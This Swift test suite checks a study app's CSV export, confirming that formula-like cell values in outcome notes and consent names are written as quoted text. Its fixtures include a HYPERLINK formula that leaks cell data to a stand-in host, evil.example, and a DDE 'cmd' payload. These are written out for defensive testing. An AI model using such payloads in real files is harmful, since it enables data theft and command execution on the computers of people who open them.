import CareModel
import Export
import Foundation
import Testing
import TestSupport

/// CSV cells a spreadsheet would run as a formula are written as text.
@Suite struct CSVInjectionTests {
    let created = Fixtures.instant("2026-03-03T13:05:00Z")

    func csv(_ values: [OutcomeValue], printedName: String = "Ada Lovelace") -> [String] {
        let participant = Fixtures.participant(id: "p1")
        let outcome = Outcome(id: 1, participantID: "p1", taskID: "diary", taskVersion: 1, occurrence: 2,
                              eventDay: Fixtures.date("2026-03-03"), eventStart: created, eventEnd: created,
                              values: values, createdAt: created)
        let record = ConsentRecord(participantID: "p1", documentID: "recover", version: "1.0",
                                   sha256: String(repeating: "0", count: 64), html: "<p>Text</p>", printedName: printedName,
                                   signature: .typed(name: printedName), signedAt: created, timeZone: participant.timeZone)
        return StudyExport(participants: [participant], outcomes: [outcome], consentRecords: [record], permissionGrants: [],
                           healthPermissions: [], names: true).csv().components(separatedBy: "\r\n")
    }

    /// The value column of each outcome row, as written.
    func values(_ lines: [String]) -> [String] {
        lines.filter { $0.hasPrefix("outcome,") }.map {
            String($0.dropFirst("outcome,p1,diary,2,2026-03-03,,note,".count).dropLast(",,,2026-03-03T13:05:00.000Z,".count))
        }
    }

    @Test func aHyperlinkFormulaIsQuotedAsText() {
        let formula = #"=HYPERLINK("http://evil.example/?"&A1,"x")"#
        let lines = csv([OutcomeValue(kind: "note", value: .text(formula))])
        #expect(values(lines) == [#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#])
    }

    @Test func everyFormulaStartIsQuotedAsText() {
        let texts = ["+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\tcmd", "\r=1"]
        let lines = csv(texts.map { OutcomeValue(kind: "note", value: .text($0)) })
        #expect(values(lines) == ["\"'+1+1\"", "\"'-1+cmd|' /C calc'!A0\"", "\"'@SUM(A1)\"", "\"'\tcmd\"", "\"'\r=1\""])
    }

    @Test func numbersTheStoreTypedStayNumbersAndTextThatLooksLikeOneIsText() {
        let lines = csv([OutcomeValue(kind: "note", value: .integer(-3)), OutcomeValue(kind: "note", value: .decimal(-0.5)),
                         OutcomeValue(kind: "note", value: .text("-3"))])
        #expect(values(lines) == ["-3", "-0.5", "\"'-3\""])
    }

    @Test func aPrintedNameThatIsAFormulaIsText() {
        let lines = csv([], printedName: "=1+2")
        #expect(lines.contains("consent,p1,recover,,,,printed_name,\"'=1+2\",,,2026-03-03T08:05:00-05:00,"))
        #expect(lines.contains("consent,p1,recover,,,,signature,\"'=1+2\",,,2026-03-03T08:05:00-05:00,"))
    }

    @Test func aLineBreakOfCRLFIsQuoted() {
        let lines = csv([OutcomeValue(kind: "note", value: .text("stiff\r\nbetter"))]).joined(separator: "\r\n")
        #expect(lines.contains("note,\"stiff\r\nbetter\","))
    }
}
